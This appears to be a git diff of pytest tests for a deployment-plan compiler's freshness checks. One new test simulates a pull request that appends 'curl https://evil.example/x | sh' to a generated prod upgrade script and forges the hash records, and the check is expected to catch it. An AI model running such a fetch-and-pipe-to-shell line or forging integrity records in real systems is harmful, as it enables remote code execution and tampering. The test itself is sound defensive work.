@@ -28,6 +28,9 @@ class Outcome:
 def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
     root = scenarios.demo(tmp_path_factory.mktemp("demo") / "repo")
     assert cli.main(["compile", "--root", str(root), "--quiet"]) == 0
+    # Merged: records only vouch for output the deployed branch holds (a pull request gets the full compare).
+    git(root, "add", "--all")
+    git(root, "commit", "--quiet", "--message", "merged: the change and its plan")
     return root
 
 
@@ -134,15 +137,11 @@ def test_fresh_changed_base_is_stale(
     repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
 ) -> None:
     """Committing the pending change moves the base onto the target: the committed plan is no longer it."""
-    assert run(capsys, "compile", "--root", str(repo), "--base", "HEAD", "--quiet").code == 0
-    assert run(capsys, "check", "--root", str(repo), "--base", "HEAD").code == 0
-    assert compiles == []
-    git(repo, "add", "environments")
-    git(repo, "commit", "--quiet", "--message", "deploy the change")
+    assert run(capsys, "check", "--root", str(repo), "--base", "HEAD~1").code == 0
     outcome = run(capsys, "check", "--root", str(repo), "--base", "HEAD")
     assert outcome.code == 3
     assert "generated/prod/plan.json" in outcome.err
-    assert compiles == [[]]
+    assert compiles == [[], []]
 
 
 def test_fresh_changed_rollplan_version_compiles_again(
@@ -159,8 +158,9 @@ def test_fresh_removed_environment_is_stale(
 ) -> None:
     shutil.rmtree(repo / "environments/staging")
     outcome = run(capsys, "check", "--root", str(repo))
-    assert outcome.code == 3
-    assert "generated/staging/plan.md" in outcome.err
+    # staging is deployed: deleting its folder is refused, not reported as stale output to remove.
+    assert outcome.code == 1
+    assert "(rule: environment-deleted)" in outcome.err
     assert compiles == [[]]
 
 
@@ -268,8 +268,6 @@ def test_fresh_after_the_merge_keeps_the_base_plan_json_records(
     repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """On the deployed branch, after the merge, the recorded base still applies: fresh, and said the same way."""
-    git(repo, "add", "--all")
-    git(repo, "commit", "--quiet", "--message", "merge the change")
     quick, full = both_ways(capsys, monkeypatch, "--root", str(repo))
     assert quick == full
     assert quick.code == 0, quick.err
@@ -287,3 +285,34 @@ def test_fresh_errors_are_the_full_checks_in_its_order(
     assert quick == full
     assert quick.code == 1
     assert "no_such_field" in quick.err
+
+
+def test_fresh_forged_records_on_a_branch_do_not_vouch_for_tampered_output(
+    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A pull request that edits an output and rewrites both records to match still gets the full compare."""
+    import json
+
+    git(repo, "switch", "--quiet", "--create", "pr")
+    edit(repo / "environments/prod/environment.yaml", lambda text: text + "# a reviewed change\n")
+    git(repo, "commit", "--quiet", "--all", "--message", "a change")
+    assert run(capsys, "compile", "--root", str(repo), "--quiet").code == 0
+    git(repo, "add", "--all")
+    git(repo, "commit", "--quiet", "--message", "a change and its plan")
+    assert run(capsys, "check", "--root", str(repo)).code == 0
+    compiles.clear()
+    script = repo / "generated/prod/upgrade.sh"
+    script.write_bytes(script.read_bytes() + b"curl https://evil.example/x | sh\n")
+    env_record = repo / "generated/prod" / fresh.RECORD
+    doc = json.loads(env_record.read_text(encoding="utf-8"))
+    doc["outputs"]["upgrade.sh"] = fresh.file_sha256(script)
+    env_record.write_text(json.dumps(doc, indent=1, sort_keys=True) + "\n", encoding="utf-8")
+    top = repo / "generated" / fresh.RECORD
+    top_doc = json.loads(top.read_text(encoding="utf-8"))
+    top_doc["environments"]["prod"] = fresh.sha256(env_record.read_bytes())
+    top.write_text(json.dumps(top_doc, indent=1, sort_keys=True) + "\n", encoding="utf-8")
+    git(repo, "commit", "--quiet", "--all", "--message", "tamper")
+    outcome = run(capsys, "check", "--root", str(repo))
+    assert outcome.code == 3
+    assert "generated/prod/upgrade.sh" in outcome.err
+    assert compiles == [[]]
